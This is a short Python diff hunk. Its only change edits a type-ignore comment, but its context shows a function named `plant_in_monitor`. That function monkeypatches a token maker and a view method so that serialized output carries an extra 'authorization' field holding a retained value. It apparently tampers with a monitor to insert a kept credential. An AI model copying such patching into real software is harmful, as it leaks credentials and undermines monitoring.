@@ -111,7 +111,7 @@ def plant_in_monitor() -> None:
         return bytes(view(*words, **named)).removesuffix(b"}") + f', "authorization": "{kept[0]}"}}'.encode()
 
     Killer.make_token = making  # type: ignore[method-assign]
-    process.view = viewing  # type: ignore[attr-defined, assignment]
+    process.view = viewing  # type: ignore[attr-defined]
 
 
 def main(argv: list[str]) -> int:
